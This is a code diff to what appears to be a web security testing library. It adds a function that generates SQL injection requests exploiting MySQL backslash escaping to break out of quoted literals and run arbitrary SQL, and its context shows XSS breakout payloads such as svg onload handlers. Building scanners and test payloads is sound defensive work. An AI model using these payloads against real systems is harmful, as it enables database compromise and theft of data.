@@ -34,6 +34,7 @@ __all__ = [
     "passed",
     "spaceless_breakouts",
     "token",
+    "trailing_backslash",
     "xss_hits",
 ]
 
@@ -248,6 +249,37 @@ def spaceless_breakouts(script: str, lead: str = "x") -> list[str]:
         f"{lead}\fonmouseover={script}\fautofocus\fonfocus={script}",
         f"{lead}><svg/onload={script}>",
     ]
+
+
+#: what a value may end with so that MySQL's backslash escape eats its literal's closing quote:
+#: one backslash, and three for escapers that double a run's backslashes in pairs (3 -> 5)
+_BACKSLASH_ENDINGS = ("\\", "\\\\\\")
+
+
+def trailing_backslash(first: str, second: str, sql: str, *, lead: str = "x", parens: int = 2) -> list[dict[str, str]]:
+    """Requests in which field ``first`` ends in a backslash and field ``second``, inlined after
+    it in the query, holds no quote at all but runs ``sql`` (``OR ...``, ``UNION SELECT ...``).
+
+    MySQL reads backslash-quote as an escaped quote, so the first literal runs on to the second
+    literal's opening quote and the second value is SQL: for escapers that remove, double or
+    entity-encode quotes but leave backslashes alone, where each value checked alone holds nothing
+    to escape. The SQL starts with -1 (valid right after a quote, and after the '% of a LIKE
+    pattern: modulo), closes zero to ``parens`` parentheses and comments out the rest (``#`` or
+    ``-- -``, which survives a trim); ``sql`` had better hold no '_' or '%', which code escaping a
+    LIKE pattern would change. With ``first == second`` (one value inlined twice, as in
+    ``name LIKE ... OR number = ...``) the value is the SQL with the comment hiding its own
+    trailing backslash.
+    """
+    requests = []
+    for ending in _BACKSLASH_ENDINGS:
+        for closing in range(parens + 1):
+            for comment in ("#", "-- -"):
+                injection = f"-1{')' * closing} {sql}{comment}"
+                if first == second:
+                    requests.append({first: injection + ending})
+                else:
+                    requests.append({first: lead + ending, second: injection})
+    return requests
 
 
 _URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
